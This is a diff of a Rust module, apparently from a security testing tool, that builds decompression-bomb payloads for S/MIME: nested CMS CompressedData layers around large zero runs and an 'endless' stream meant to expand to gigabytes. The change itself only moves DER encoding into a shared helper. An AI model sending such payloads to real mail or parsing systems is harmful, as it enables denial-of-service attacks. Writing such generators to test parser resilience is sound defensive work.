@@ -3,13 +3,10 @@
 use flate2::{Compress, Compression, FlushCompress, Status};
 
 use super::Attack;
-use super::cms::DATA_OID;
-use crate::message::der::{CONTEXT_0, OCTETS, SEQUENCE, algorithm, number, oid, tlv};
+use crate::{cms::compressed, der::Encoding};
 
 /// The `Content-Type` of CompressedData.
 pub const COMPRESSED: &str = "application/pkcs7-mime; smime-type=compressed-data";
-const COMPRESSED_OID: &str = "1.2.840.113549.1.9.16.1.9";
-const ZLIB: &str = "1.2.840.113549.1.9.16.3.8";
 const MIB: usize = 1 << 20;
 
 /// So many layers of CompressedData around so many MiB of zeros. With two or more the innermost keeps to
@@ -29,7 +26,7 @@ pub fn bomb(layers: usize, mib: usize) -> Attack {
     zlib.extend(unit.repeat(mib));
     zlib.extend_from_slice(&[1, 0, 0, 0xff, 0xff]);
     zlib.extend_from_slice(&adler32(head, mib * MIB).to_be_bytes());
-    let body = compressed_data(&zlib);
+    let body = compressed(&zlib, Encoding::Der);
     let mut attack = Attack { content_type: COMPRESSED.to_owned(), body, output: 0 };
     for _ in 1..layers {
         attack = attack.compressed();
@@ -48,15 +45,8 @@ pub fn endless() -> Attack {
     deflate(head, FlushCompress::Full, &mut zlib);
     deflate(&vec![b' '; MIB], FlushCompress::Full, &mut unit);
     zlib.extend(unit.repeat(8 * 1024));
-    let body = compressed_data(&zlib);
+    let body = compressed(&zlib, Encoding::Der);
     Attack { content_type: COMPRESSED.to_owned(), body, output: 8 << 30 }.compressed()
-}
-
-/// A CompressedData around a zlib stream.
-pub(super) fn compressed_data(zlib: &[u8]) -> Vec<u8> {
-    let inner = tlv(SEQUENCE, &[&oid(DATA_OID), &tlv(CONTEXT_0, &[&tlv(OCTETS, &[zlib])])]);
-    let data = tlv(SEQUENCE, &[&number(0), &algorithm(ZLIB, &[]), &inner]);
-    tlv(SEQUENCE, &[&oid(COMPRESSED_OID), &tlv(CONTEXT_0, &[&data])])
 }
 
 /// A zlib stream.
